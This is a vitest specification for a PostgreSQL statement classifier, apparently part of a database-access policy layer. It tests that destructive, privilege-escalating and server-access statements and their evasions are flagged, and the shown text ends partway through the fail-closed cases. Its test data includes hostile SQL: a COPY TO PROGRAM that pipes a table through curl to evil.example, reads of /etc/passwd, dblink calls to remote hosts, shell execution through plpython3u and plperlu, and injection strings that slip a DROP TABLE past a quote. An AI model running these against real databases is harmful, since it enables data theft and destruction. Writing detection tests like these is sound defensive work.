/**
 * The SQL classifier, as a specification: what each kind of statement is classified as, how the
 * classifier sees through the usual evasions, that it fails closed, and that what real tools send is
 * left alone.
 */
import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import {
  classify,
  createClassifier,
  loadClassifier,
  resolveExecutes,
  STATEMENT_CLASSES,
  type Classification,
  type StatementClass,
} from '../../tunnel/policy/classifier.ts';
import { STABLE_BUILTIN_FUNCTIONS } from '../../tunnel/policy/builtin-functions.ts';
import { dangerousFunction, FUNCTION_LISTS } from '../../tunnel/policy/function-catalog.ts';
import { PLAIN_NODES, UNWRAPPED_FIELDS } from '../../tunnel/policy/node-catalog.ts';
import type { FunctionOverload } from '../../tunnel/policy/routine-catalog.ts';
import { ROUTINE_FINGERPRINT_QUERY } from '../../tunnel/policy/routine-catalog-reader.ts';
import { STATEMENT_RULES } from '../../tunnel/policy/statement-catalog.ts';
import { HANDLED_NODE_TYPES } from '../../tunnel/policy/statement-handlers.ts';
import { HANDLERS } from '../../tunnel/policy/statement-handlers.ts';
import { Walk } from '../../tunnel/policy/walker.ts';
import * as tools from './tool-queries.ts';

beforeAll(async () => {
  await loadClassifier();
});

type Case = readonly [sql: string, expected: StatementClass];

function expectCaught(sql: string, expected: StatementClass): Classification {
  const c = classify(sql);
  expect([...c.classes], c.reasons.join('; ')).toContain(expected);
  expect([...c.classes].every((cls) => cls === 'read')).toBe(false);
  expect(c.reasons.length).toBeGreaterThan(0);
  return c;
}

function title(sql: string): string {
  const flat = sql.replace(/\s+/g, ' ').trim();
  return flat.length > 100 ? `${flat.slice(0, 97)}...` : flat;
}

// ---- dangerous statements ------------------------------------------------------------------------

const dangerous: Record<string, readonly Case[]> = {
  'DROP of anything': [
    ['DROP TABLE users', 'drop'],
    ['drop table if exists public.users cascade', 'drop'],
    ['DrOp TaBlE users', 'drop'],
    ['DROP TABLE "Users"', 'drop'],
    [String.raw`DROP TABLE U&"\0075sers"`, 'drop'],
    ['DROP SCHEMA app CASCADE', 'drop'],
    ['DROP DATABASE production', 'drop'],
    ['DROP INDEX CONCURRENTLY IF EXISTS users_email_idx', 'drop'],
    ['DROP VIEW active_users', 'drop'],
    ['DROP MATERIALIZED VIEW monthly_totals', 'drop'],
    ['DROP SEQUENCE users_id_seq', 'drop'],
    ['DROP FUNCTION app.add(int, int)', 'drop'],
    ['DROP PROCEDURE app.cleanup()', 'drop'],
    ['DROP TRIGGER audit ON users', 'drop'],
    ['DROP RULE protect ON users', 'drop'],
    ['DROP POLICY tenant_isolation ON users', 'drop'],
    ['DROP TYPE mood', 'drop'],
    ['DROP DOMAIN positive_int', 'drop'],
    ['DROP EXTENSION pgcrypto', 'drop'],
    ['DROP SERVER remote CASCADE', 'drop'],
    ['DROP FOREIGN TABLE remote_users', 'drop'],
    ['DROP USER MAPPING FOR bob SERVER remote', 'drop'],
    ['DROP PUBLICATION all_tables', 'drop'],
    ['DROP SUBSCRIPTION replica', 'drop'],
    ['DROP TABLESPACE fast_disk', 'drop'],
    ['DROP OWNED BY bob', 'drop'],
    ['DROP ROLE bob', 'drop'],
    ['ALTER TABLE users DROP COLUMN email', 'drop'],
    ['DROP TABLE a, b, c', 'ddl'],
  ],
  'hidden by comments, case and quoting': [
    ['/* harmless */ DROP TABLE users', 'drop'],
    ['-- a comment\nDROP TABLE users', 'drop'],
    ['/* outer /* nested */ still a comment */ DROP TABLE users', 'drop'],
    ['SELECT 1 /* ; */ ; /**/DROP/**/TABLE/**/users', 'drop'],
    ['SELECT 1; -- end\nTRUNCATE users', 'truncate'],
    ['\n\t  dRoP\n\tTABLE\n\tusers\n', 'drop'],
    // With standard_conforming_strings on, a backslash does not escape the quote: the string ends
    // at 'a\' and the DROP runs.
    [String.raw`SELECT 'a\'; DROP TABLE users; --'`, 'drop'],
    // The first dollar-quoted string is " $$ "; the DROP is outside any string.
    ['SELECT $a$ $$ $a$; DROP TABLE users; -- $$', 'drop'],
    ['SELECT $$x$$; DROP TABLE users', 'drop'],
    [String.raw`SELECT E'\\'; DROP TABLE users; --'`, 'drop'],
    [String.raw`SELECT U&'\0027'; DROP TABLE users`, 'drop'],
    ['SELECT "a;b" FROM t; DROP TABLE users', 'drop'],
  ],
  'multi-statement strings': [
    ['SELECT 1; DROP TABLE users', 'drop'],
    ['SELECT 1; SELECT 2; DELETE FROM users', 'delete-without-where'],
    ['BEGIN; SELECT * FROM users; UPDATE users SET admin = true; COMMIT', 'update-without-where'],
    ['SELECT 1;;; TRUNCATE users;', 'truncate'],
    ["SET application_name = 'x'; GRANT ALL ON users TO PUBLIC", 'privilege'],
    ["SHOW search_path; SELECT pg_read_file('/etc/passwd')", 'server-access'],
  ],
  TRUNCATE: [
    ['TRUNCATE users', 'truncate'],
    ['truncate table users restart identity cascade', 'truncate'],
    ['TRUNCATE ONLY users, orders', 'truncate'],
    ['TRUNCATE users', 'write'],
    ["CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS 'TRUNCATE users'", 'truncate'],
  ],
  'DELETE without (a real) WHERE': [
    ['DELETE FROM users', 'delete-without-where'],
    ['delete from users where true', 'delete-without-where'],
    ['DELETE FROM users WHERE 1=1', 'delete-without-where'],
    ["DELETE FROM users WHERE 'a'='a'", 'delete-without-where'],
    ['DELETE FROM users WHERE id = id', 'delete-without-where'],
    ['DELETE FROM users u WHERE u.id = u.id', 'delete-without-where'],
    ['DELETE FROM users WHERE true OR id = 5', 'delete-without-where'],
    ['DELETE FROM users WHERE id = 5 OR 1 = 1', 'delete-without-where'],
    ['DELETE FROM users WHERE 1 = 1 AND 2 = 2', 'delete-without-where'],
    ['DELETE FROM users WHERE NOT false', 'delete-without-where'],
    ["DELETE FROM users WHERE name LIKE '%'", 'delete-without-where'],
    ['DELETE FROM users WHERE id IS NULL OR id IS NOT NULL', 'delete-without-where'],
    ['DELETE FROM users WHERE id IS NOT DISTINCT FROM id', 'delete-without-where'],
    ['DELETE FROM users WHERE 1::bool', 'delete-without-where'],
    ['DELETE FROM users WHERE coalesce(NULL, true)', 'delete-without-where'],
    ['DELETE FROM users WHERE $1', 'delete-without-where'],
    ['DELETE FROM users WHERE (SELECT true)', 'delete-without-where'],
    ['DELETE FROM users WHERE EXISTS (SELECT 1 FROM orders o WHERE o.total > 0)', 'delete-without-where'],
    ['DELETE FROM users u USING orders o WHERE o.total > 0', 'delete-without-where'],
    ['DELETE FROM users', 'write'],
    ['WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d', 'delete-without-where'],
    ['SELECT * FROM (SELECT 1) s, LATERAL (SELECT 1) l; DELETE FROM users', 'delete-without-where'],
    ['EXPLAIN ANALYZE DELETE FROM users', 'delete-without-where'],
    ['EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users', 'delete-without-where'],
    ['EXPLAIN (ANALYSE true, COSTS off) DELETE FROM users', 'delete-without-where'],
    ['EXPLAIN (ANALYZE 1) DELETE FROM users', 'delete-without-where'],
    ['PREPARE wipe AS DELETE FROM users; EXECUTE wipe', 'delete-without-where'],
    ['COPY (DELETE FROM users RETURNING *) TO STDOUT', 'delete-without-where'],
    ['MERGE INTO users u USING src s ON true WHEN MATCHED THEN DELETE', 'delete-without-where'],
    ['MERGE INTO users u USING src s ON s.flag WHEN MATCHED THEN DELETE', 'delete-without-where'],
    [
      'MERGE INTO users u USING src s ON u.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE',
      'delete-without-where',
    ],
    ['CREATE RULE r AS ON INSERT TO log DO ALSO DELETE FROM users', 'delete-without-where'],
    ['CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM users $$', 'delete-without-where'],
    ['CREATE PROCEDURE p() BEGIN ATOMIC DELETE FROM users; END', 'delete-without-where'],
  ],
  'UPDATE without (a real) WHERE': [
    ['UPDATE users SET admin = true', 'update-without-where'],
    ['UPDATE users SET admin = true WHERE 1=1', 'update-without-where'],
    ["update users set admin = true where 'a' = 'a'", 'update-without-where'],
    ['UPDATE users SET admin = true WHERE admin = admin', 'update-without-where'],
    ['UPDATE users SET admin = true WHERE id >= id', 'update-without-where'],
    ['UPDATE users SET admin = true WHERE true OR id = 1', 'update-without-where'],
    ["UPDATE users SET admin = true WHERE lower('A') = 'a'", 'update-without-where'],
    ['UPDATE users SET admin = true FROM orders o WHERE o.id = 5', 'update-without-where'],
    ['WITH u AS (UPDATE users SET admin = true RETURNING id) SELECT * FROM u', 'update-without-where'],
    ['EXPLAIN ANALYZE UPDATE users SET admin = true', 'update-without-where'],
    ['PREPARE promote AS UPDATE users SET admin = $1; EXECUTE promote(true)', 'update-without-where'],
    ['SELECT 1; update users set admin = true', 'update-without-where'],
    [
      'MERGE INTO users u USING src s ON 1=1 WHEN MATCHED THEN UPDATE SET admin = s.admin',
      'update-without-where',
    ],
    ['UPDATE users SET admin = true', 'write'],
  ],
  'other writes': [
    ['INSERT INTO users (name) VALUES ($1)', 'write'],
    ['INSERT INTO users SELECT * FROM staging ON CONFLICT DO NOTHING', 'write'],
    ['UPDATE users SET admin = false WHERE id = 7', 'write'],
    ['DELETE FROM users WHERE id = 7', 'write'],
    ['MERGE INTO users u USING src s ON u.id = s.id WHEN MATCHED THEN UPDATE SET name = s.name', 'write'],
    ['WITH x AS (INSERT INTO audit VALUES (1) RETURNING *) SELECT * FROM x', 'write'],
    ['SELECT * FROM users WHERE id = 1 FOR UPDATE', 'write'],
    ['SELECT * FROM users FOR SHARE SKIP LOCKED', 'write'],
    ['SELECT * FROM users u JOIN orders o ON o.uid = u.id FOR NO KEY UPDATE OF u NOWAIT', 'write'],
    ["SELECT nextval('users_id_seq')", 'write'],
    ["SELECT setval('users_id_seq', 1)", 'write'],
    ["SELECT * FROM users ORDER BY nextval('s')", 'write'],
    ["SELECT * FROM users LIMIT nextval('s')", 'write'],
    ["VALUES (nextval('s'))", 'write'],
    ["SELECT 1 FROM users GROUP BY nextval('s')", 'write'],
    ["SELECT * FROM users WHERE id = (SELECT nextval('s'))", 'write'],
    ['SELECT lo_create(0)', 'write'],
    ["SELECT lo_from_bytea(0, '\\x00')", 'write'],
    ['SELECT lo_unlink(16400)', 'write'],
    ["SELECT lowrite(lo_open(16400, 131072), 'x')", 'write'],
    ["SELECT lo_put(16400, 0, 'x')", 'write'],
    ['NOTIFY jobs', 'write'],
    ["SELECT pg_notify('jobs', 'run')", 'write'],
    ['SELECT pg_advisory_lock(42)', 'write'],
    ['LOCK TABLE users', 'write'],
    ['LOCK users IN ROW EXCLUSIVE MODE', 'write'],
    ['REFRESH MATERIALIZED VIEW CONCURRENTLY monthly_totals', 'write'],
    ["PREPARE TRANSACTION 'tx1'", 'write'],
    ["COMMIT PREPARED 'tx1'", 'write'],
    ["ROLLBACK PREPARED 'tx1'", 'write'],
    ['COPY users FROM STDIN', 'write'],
    ["COPY users (name) FROM STDIN WITH (FORMAT csv) WHERE name <> ''", 'write'],
    ['EXPLAIN ANALYZE INSERT INTO users (name) VALUES (1)', 'write'],
    ["CREATE TABLE t (id int DEFAULT nextval('s'))", 'write'],
  ],
  DDL: [
    ['CREATE TABLE t (id int)', 'ddl'],
    ['CREATE TEMP TABLE scratch (x int)', 'ddl'],
    ['ALTER TABLE users ADD COLUMN nickname text', 'ddl'],
    ['ALTER TABLE users RENAME TO people', 'ddl'],
    ['ALTER TABLE users RENAME COLUMN name TO full_name', 'ddl'],
    ['CREATE INDEX CONCURRENTLY users_name_idx ON users (name)', 'ddl'],
    ["COMMENT ON TABLE users IS 'people'", 'ddl'],
    ['CREATE VIEW v AS SELECT * FROM users', 'ddl'],
    ['CREATE MATERIALIZED VIEW mv AS SELECT count(*) FROM users', 'ddl'],
    ['SELECT * INTO users_copy FROM users', 'ddl'],
    ['SELECT * INTO users_copy FROM users', 'write'],
    ['CREATE TABLE users_copy AS SELECT * FROM users', 'ddl'],
    ['CREATE TABLE users_copy AS SELECT * FROM users', 'write'],
    ['CREATE SCHEMA reporting', 'ddl'],
    ['CREATE SEQUENCE s', 'ddl'],
    ['ALTER SEQUENCE s RESTART WITH 1', 'ddl'],
    ["CREATE TYPE mood AS ENUM ('sad', 'ok')", 'ddl'],
    ['CREATE DOMAIN positive AS int CHECK (VALUE > 0)', 'ddl'],
    ['CREATE FUNCTION one() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$', 'ddl'],
    ['CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$', 'ddl'],
    ['CREATE TRIGGER audit BEFORE INSERT ON users FOR EACH ROW EXECUTE FUNCTION audit()', 'ddl'],
    ['CREATE RULE r AS ON SELECT TO v DO INSTEAD SELECT 1', 'ddl'],
    ['CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()', 'ddl'],
    ['CREATE AGGREGATE my_sum(int) (sfunc = int4pl, stype = int)', 'ddl'],
    ['CREATE STATISTICS st ON a, b FROM t', 'ddl'],
    ['CREATE DATABASE scratch', 'ddl'],
    ['VACUUM FULL users', 'ddl'],
    ['VACUUM (ANALYZE, VERBOSE) users', 'ddl'],
    ['ANALYZE users', 'ddl'],
    ['CLUSTER users USING users_pkey', 'ddl'],
    ['REINDEX TABLE CONCURRENTLY users', 'ddl'],
    ["SELECT brin_summarize_new_values('events_brin_idx')", 'ddl'],
    ['ALTER TABLE users ALTER COLUMN name TYPE varchar(10)', 'ddl'],
    ['ALTER INDEX users_name_idx RENAME TO users_full_name_idx', 'ddl'],
  ],
  privilege: [
    ['GRANT ALL ON users TO bob', 'privilege'],
    ['REVOKE SELECT ON users FROM PUBLIC', 'privilege'],
    ['GRANT admin TO bob', 'privilege'],
    ['GRANT pg_read_server_files TO bob WITH ADMIN OPTION', 'privilege'],
    ['CREATE ROLE evil SUPERUSER LOGIN', 'privilege'],
    ["CREATE USER mallory PASSWORD 'x'", 'privilege'],
    ['CREATE GROUP admins', 'privilege'],
    ['ALTER USER bob WITH SUPERUSER', 'privilege'],
    ["ALTER ROLE bob PASSWORD 'secret'", 'privilege'],
    ['ALTER ROLE bob RENAME TO robert', 'privilege'],
    ['DROP ROLE bob', 'privilege'],
    ['SET ROLE postgres', 'privilege'],
    ['SET LOCAL ROLE postgres', 'privilege'],
    ['SET SESSION ROLE postgres', 'privilege'],
    ['SET ROLE NONE', 'privilege'],
    ['RESET ROLE', 'privilege'],
    ['SET "Role" = postgres', 'privilege'],
    ['SET SESSION AUTHORIZATION postgres', 'privilege'],
    ["SET SESSION AUTHORIZATION 'postgres'", 'privilege'],
    ['SET SESSION AUTHORIZATION DEFAULT', 'privilege'],
    ['RESET SESSION AUTHORIZATION', 'privilege'],
    ["SELECT set_config('role', 'postgres', false)", 'privilege'],
    ["SELECT set_config('ROLE', 'postgres', false)", 'privilege'],
    ["SELECT pg_catalog.set_config('session_authorization', 'postgres', true)", 'privilege'],
    ["SELECT set_config(setting_name => 'role', new_value => 'postgres', is_local => false)", 'privilege'],
    ["SELECT 1 FROM users WHERE set_config('role', 'postgres', false) IS NOT NULL", 'privilege'],
    ["SELECT set_config('search_path', 'evil, pg_catalog', false)", 'privilege'],
    ['SET search_path = evil, public', 'privilege'],
    ['SET search_path TO public, pg_catalog', 'privilege'],
    ["SET SCHEMA 'evil'", 'privilege'],
    ['SET session_replication_role = replica', 'privilege'],
    ["SET log_statement = 'none'", 'privilege'],
    ["SET pgaudit.log = 'none'", 'privilege'],
    ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob', 'privilege'],
    ['REASSIGN OWNED BY bob TO alice', 'privilege'],
    ['ALTER TABLE users OWNER TO bob', 'privilege'],
    ['ALTER FUNCTION app.add(int, int) OWNER TO bob', 'privilege'],
    ['ALTER TABLE users DISABLE ROW LEVEL SECURITY', 'privilege'],
    ['CREATE POLICY everyone ON users USING (true)', 'privilege'],
    ['ALTER FUNCTION app.add(int, int) SECURITY DEFINER', 'privilege'],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'", 'privilege'],
    ["SECURITY LABEL FOR selinux ON TABLE users IS 'system_u:object_r:sepgsql_table_t:s0'", 'privilege'],
    ['ALTER DATABASE app SET search_path = evil, public', 'privilege'],
  ],
  'server access': [
    ["COPY users TO PROGRAM 'curl -d @- https://evil.example'", 'server-access'],
    ["COPY users FROM PROGRAM 'cat /etc/passwd'", 'server-access'],
    ["COPY users TO '/tmp/users.csv'", 'server-access'],
    ["COPY (SELECT * FROM users) TO '/tmp/x.csv' WITH CSV", 'server-access'],
    ["copy users from '/etc/passwd'", 'server-access'],
    ["SELECT pg_read_file('/etc/passwd')", 'server-access'],
    ["SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 100)", 'server-access'],
    ["SELECT PG_READ_FILE('/etc/passwd')", 'server-access'],
    [`SELECT "pg_read_file"('/etc/passwd')`, 'server-access'],
    [String.raw`SELECT U&"\0070g_read_file"('/etc/passwd')`, 'server-access'],
    [String.raw`SELECT pg_read_file(U&'\002fetc/passwd')`, 'server-access'],
    ["SELECT pg_read_binary_file('global/pg_control')", 'server-access'],
    ["SELECT * FROM pg_ls_dir('.')", 'server-access'],
    ['SELECT * FROM pg_ls_logdir()', 'server-access'],
    ['SELECT * FROM pg_catalog.pg_ls_waldir()', 'server-access'],
    ["SELECT pg_stat_file('postgresql.conf')", 'server-access'],
    ["SELECT lo_import('/etc/passwd')", 'server-access'],
    ["SELECT lo_export(16400, '/tmp/x')", 'server-access'],
    ["SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(x int)", 'server-access'],
    ["SELECT dblink_exec('host=evil.example', 'DROP TABLE users')", 'server-access'],
    ["SELECT public.dblink_connect('c', 'host=evil.example')", 'server-access'],
    ["CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example')", 'server-access'],
    ['CREATE EXTENSION dblink', 'server-access'],
    ['CREATE EXTENSION IF NOT EXISTS plpython3u', 'server-access'],
    ["ALTER EXTENSION postgis UPDATE TO '3.5'", 'server-access'],
    ["ALTER SYSTEM SET shared_preload_libraries = 'evil'", 'server-access'],
    ['ALTER SYSTEM RESET ALL', 'server-access'],
    ["LOAD 'auto_explain'", 'server-access'],
    ['SELECT pg_terminate_backend(12345)', 'server-access'],
    ["SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE usename = 'app'", 'server-access'],
    ['SELECT pg_reload_conf()', 'server-access'],
    ['SELECT pg_rotate_logfile()', 'server-access'],
    ['SELECT pg_promote()', 'server-access'],
    ['SELECT pg_switch_wal()', 'server-access'],
    ["SELECT pg_create_restore_point('before')", 'server-access'],
    ["SELECT pg_file_write('evil.conf', 'x', false)", 'server-access'],
    ["SELECT * FROM pg_logical_slot_get_changes('slot', NULL, NULL)", 'server-access'],
    ["SELECT pg_create_logical_replication_slot('slot', 'pgoutput')", 'server-access'],
    ["SELECT pg_drop_replication_slot('slot')", 'server-access'],
    ['SELECT pg_stat_reset()', 'server-access'],
    ['CHECKPOINT', 'server-access'],
    ['IMPORT FOREIGN SCHEMA public FROM SERVER remote INTO local', 'server-access'],
    ["CREATE SUBSCRIPTION sub CONNECTION 'host=evil.example' PUBLICATION pub", 'server-access'],
    ['ALTER SUBSCRIPTION sub REFRESH PUBLICATION', 'server-access'],
    ['CREATE PUBLICATION pub FOR ALL TABLES', 'server-access'],
    [
      "CREATE FOREIGN TABLE passwd (line text) SERVER files OPTIONS (filename '/etc/passwd')",
      'server-access',
    ],
    ["CREATE USER MAPPING FOR bob SERVER remote OPTIONS (user 'x', password 'y')", 'server-access'],
    ["CREATE TABLESPACE fast LOCATION '/mnt/fast'", 'server-access'],
    ['CREATE LANGUAGE plperlu', 'server-access'],
    ['SELECT * FROM pg_hba_file_rules', 'server-access'],
    ['SELECT * FROM pg_catalog.pg_file_settings', 'server-access'],
    ["SET session_preload_libraries = 'evil'", 'server-access'],
    ['DO LANGUAGE plpython3u $$ import os; os.system("id") $$', 'server-access'],
    ["CREATE FUNCTION evil() RETURNS int LANGUAGE c AS 'evil.so', 'evil'", 'server-access'],
    ['CREATE FUNCTION sh() RETURNS text LANGUAGE plperlu AS $$ `id` $$', 'server-access'],
  ],
  'function calls hidden anywhere in a statement': [
    ["SELECT * FROM users WHERE name = (SELECT pg_read_file('x'))", 'server-access'],
    ["SELECT 1 ORDER BY pg_read_file('x')", 'server-access'],
    ["SELECT 1 LIMIT length(pg_read_file('x'))", 'server-access'],
    ["SELECT 1 OFFSET length(pg_read_file('x'))", 'server-access'],
    ["VALUES (pg_read_file('x'))", 'server-access'],
    ["CREATE TABLE t (x text DEFAULT pg_read_file('x'))", 'server-access'],
    ["CREATE TABLE t (x text CHECK (pg_read_file('x') <> ''))", 'server-access'],
    ["ALTER TABLE t ALTER COLUMN x SET DEFAULT pg_read_file('x')", 'server-access'],
    ["ALTER TABLE t ADD CONSTRAINT c CHECK (length(pg_read_file('x')) > 0)", 'server-access'],
    ["CREATE INDEX ON t ((pg_read_file('x')))", 'server-access'],
    ["SELECT 1 WHERE EXISTS (SELECT pg_ls_dir('.'))", 'server-access'],
    ["SELECT count(*) FILTER (WHERE pg_read_file('x') IS NOT NULL) FROM t", 'server-access'],
    ["SELECT sum(x) OVER (ORDER BY pg_read_file('x')) FROM t", 'server-access'],
    ["SELECT * FROM t JOIN u ON pg_read_file('x') = u.x", 'server-access'],
    ["SELECT * FROM t, LATERAL pg_ls_dir('.') AS f", 'server-access'],
    ["SELECT ARRAY[pg_read_file('x')]", 'server-access'],
    ["SELECT CASE WHEN true THEN pg_read_file('x') END", 'server-access'],
    ["SELECT coalesce(NULL, pg_read_file('x'))", 'server-access'],
    [`SELECT pg_read_file('x')::text COLLATE "C"`, 'server-access'],
    ["SELECT ROW(pg_read_file('x'))", 'server-access'],
    ["SELECT json_build_object('a', pg_read_file('x'))", 'server-access'],
    ["SELECT JSON_OBJECT('a' VALUE pg_read_file('x'))", 'server-access'],
    ["SELECT xmlelement(name a, pg_read_file('x'))", 'server-access'],
    ["SELECT * FROM t WHERE x = ANY (ARRAY[pg_read_file('x')])", 'server-access'],
    ["SELECT 1 GROUP BY ROLLUP (pg_read_file('x'))", 'server-access'],
    ["SELECT 1 HAVING pg_read_file('x') IS NOT NULL", 'server-access'],
    ["WITH x AS (SELECT pg_read_file('a')) SELECT * FROM x", 'server-access'],
    ["SELECT 'a' UNION SELECT pg_read_file('x')", 'server-access'],
    ["INSERT INTO t SELECT pg_read_file('x')", 'server-access'],
    ["INSERT INTO t VALUES (1) RETURNING pg_read_file('x')", 'server-access'],
    ["UPDATE t SET x = pg_read_file('x') WHERE id = 1", 'server-access'],
    ["DECLARE c CURSOR FOR SELECT pg_read_file('x')", 'server-access'],
    ["PREPARE p AS SELECT pg_read_file($1); EXECUTE p('x')", 'server-access'],
    ["EXECUTE p(pg_read_file('x'))", 'server-access'],
    ["COPY (SELECT pg_read_file('x')) TO STDOUT", 'server-access'],
    ["SELECT * FROM t TABLESAMPLE system (length(pg_read_file('x')))", 'server-access'],
    ["CALL app.p(pg_read_file('x'))", 'server-access'],
    ["EXPLAIN SELECT pg_read_file('x')", 'server-access'],
    ["SELECT * FROM generate_series(1, length(pg_read_file('x')))", 'server-access'],
    ["CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')", 'server-access'],
    // Attribute notation: (x).f is f(x) — no function call node in the tree.
    ["SELECT ('postgresql.conf'::text).pg_read_file", 'server-access'],
    ["SELECT (('postgresql.conf'::text).pg_stat_file).size", 'server-access'],
    ["SELECT t.pg_read_file FROM (SELECT 'postgresql.conf'::text) AS t(x)", 'server-access'],
    ["SELECT (('users_id_seq'::regclass).nextval)", 'write'],
    ['SELECT (12345).pg_terminate_backend', 'server-access'],
  ],
  'dynamic code': [
    ['DO $$ BEGIN PERFORM 1; END $$', 'dynamic'],
    ["DO LANGUAGE plpgsql $body$ BEGIN EXECUTE 'DROP TABLE users'; END $body$", 'dynamic'],
    ['CALL cleanup()', 'dynamic'],
    ['CALL app.cleanup(1, 2)', 'dynamic'],
    ['SELECT my_function()', 'dynamic'],
    ["SELECT public.lower('x')", 'dynamic'],
    ['SELECT app.add(1, 2)', 'dynamic'],
    [`SELECT "Lower"('x')`, 'dynamic'],
    ['SELECT pg_catalog.not_a_builtin()', 'dynamic'],
    ['SELECT * FROM my_set_returning_function()', 'dynamic'],
    ['SELECT * FROM users ORDER BY my_rank(name)', 'dynamic'],
    ['SELECT * FROM users LIMIT my_limit()', 'dynamic'],
    ['VALUES (my_function())', 'dynamic'],
    ['CREATE TABLE t (x int DEFAULT my_function())', 'dynamic'],
    ['CREATE TABLE t (x int CHECK (my_check(x)))', 'dynamic'],
    ['INSERT INTO t VALUES (my_function())', 'dynamic'],
    ['SELECT 1 WHERE my_function()', 'dynamic'],
    ['SELECT * FROM t WHERE x = ANY (SELECT my_function())', 'dynamic'],
    ['EXPLAIN SELECT my_function()', 'dynamic'],
    ["SELECT query_to_xml('SELECT * FROM users', true, false, '')", 'dynamic'],
    ["SELECT table_to_xml('users', true, false, '')", 'dynamic'],
    ["SELECT database_to_xml(true, false, '')", 'dynamic'],
    ["SELECT cursor_to_xml('c', 10, true, false, '')", 'dynamic'],
    ["SELECT * FROM ts_stat('SELECT body_tsv FROM documents')", 'dynamic'],
    ["SELECT ts_rewrite('a & b'::tsquery, 'SELECT t, s FROM aliases')", 'dynamic'],
    ['SELECT 1 OPERATOR(public.+) 2', 'dynamic'],
    ['SELECT 1 ~~~ 2', 'dynamic'],
    ['SELECT * FROM users ORDER BY name USING OPERATOR(public.<)', 'dynamic'],
    ['SELECT * FROM users TABLESAMPLE my_sampler (10)', 'dynamic'],
    ['CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$', 'dynamic'],
  ],
};

describe('dangerous statements are caught, whatever they hide behind', () => {
  for (const [group, cases] of Object.entries(dangerous)) {
    describe(group, () => {
      it.each(cases.map(([sql, expected]) => ({ sql, expected, name: title(sql) })))(
        '$name → $expected',
        ({ sql, expected }) => {
          expectCaught(sql, expected);
        },
      );
    });
  }
});

// ---- failing closed -------------------------------------------------------------------------------

const mustFail: readonly (readonly [sql: string, message: string])[] = [
  // standard_conforming_strings must stay on, however it is switched off
  ['SET standard_conforming_strings = off', 'standard_conforming_strings must stay on'],
  ["SET standard_conforming_strings TO 'off'", 'standard_conforming_strings must stay on'],
  ['set standard_conforming_strings = false', 'standard_conforming_strings must stay on'],
  ['SET standard_conforming_strings = 0', 'standard_conforming_strings must stay on'],
  ['SET LOCAL standard_conforming_strings = off', 'standard_conforming_strings must stay on'],
  ['SET SESSION standard_conforming_strings TO off', 'standard_conforming_strings must stay on'],
  ['SET "Standard_Conforming_Strings" = off', 'standard_conforming_strings must stay on'],
  ['RESET standard_conforming_strings', 'standard_conforming_strings must stay on'],
  ['SET standard_conforming_strings TO DEFAULT', 'standard_conforming_strings must stay on'],
  ["SELECT set_config('standard_conforming_strings', 'off', false)", 'standard_conforming_strings'],
  ["SELECT pg_catalog.set_config('standard_conforming_strings', 'off', true)", 'standard_conforming_strings'],
  ["SELECT set_config('Standard_Conforming_Strings', 'no', false)", 'standard_conforming_strings'],
  ["SELECT set_config('standard_conforming_strings', $1, false)", 'standard_conforming_strings'],
  ['ALTER ROLE bob SET standard_conforming_strings = off', 'standard_conforming_strings'],
  ['ALTER ROLE ALL SET standard_conforming_strings = off', 'standard_conforming_strings'],
  ['ALTER ROLE bob IN DATABASE app SET standard_conforming_strings = off', 'standard_conforming_strings'],
  ['ALTER DATABASE app SET standard_conforming_strings TO off', 'standard_conforming_strings'],
  ['ALTER SYSTEM SET standard_conforming_strings = off', 'standard_conforming_strings'],
  [
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET standard_conforming_strings = off AS 'SELECT 1'",
    'standard_conforming_strings',
  ],
  [String.raw`SELECT 1; SET standard_conforming_strings = off; SELECT 'a\'`, 'standard_conforming_strings'],
  ['BEGIN; SET LOCAL standard_conforming_strings = off; COMMIT', 'standard_conforming_strings'],
  [
    "PREPARE p AS SELECT set_config('standard_conforming_strings', 'off', false)",
    'standard_conforming_strings',
  ],
  [
    "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
    'UPDATE of pg_settings',
  ],
  // client encodings whose multibyte characters can contain a quote byte
  ["SET client_encoding = 'SJIS'", 'client_encoding'],
  ["SET client_encoding TO 'Shift_JIS'", 'client_encoding'],
  ["SET client_encoding = 'SHIFT_JIS_2004'", 'client_encoding'],
  ["SET client_encoding = 'WIN932'", 'client_encoding'],
  ["SET NAMES 'BIG5'", 'client_encoding'],
  ["set names 'gbk'", 'client_encoding'],
  ["SET client_encoding = 'UHC'", 'client_encoding'],
  ["SET client_encoding = 'JOHAB'", 'client_encoding'],
  ["SELECT set_config('client_encoding', 'GB18030', false)", 'client_encoding'],
  ["SELECT set_config('client_encoding', $1, false)", 'client_encoding'],
  ["ALTER ROLE bob SET client_encoding = 'SJIS'", 'client_encoding'],
  ["ALTER DATABASE app SET client_encoding TO 'big5'", 'client_encoding'],
  ["SET client_encoding = 'no-such-encoding'", 'client_encoding'],
  // set_config of a setting we cannot name
  ["SELECT set_config(current_setting('my.name'), 'x', false)", 'set_config() must name its setting'],
  // parse errors and garbage
  ['SELEC 1', 'could not parse'],
  ['DROP TABLE', 'could not parse'],
  ["'; DROP TABLE users; --", 'could not parse'],
  ['/* unterminated comment DROP TABLE users', 'could not parse'],
  ['SELECT $$ unterminated DROP TABLE users', 'could not parse'],
  ["SELECT 'unterminated", 'could not parse'],
  ['\\dt', 'could not parse'],
  ['SELECT 1; garbage here', 'could not parse'],
  ['EXPLAIN ANALYZE', 'could not parse'],
  [')))', 'could not parse'],
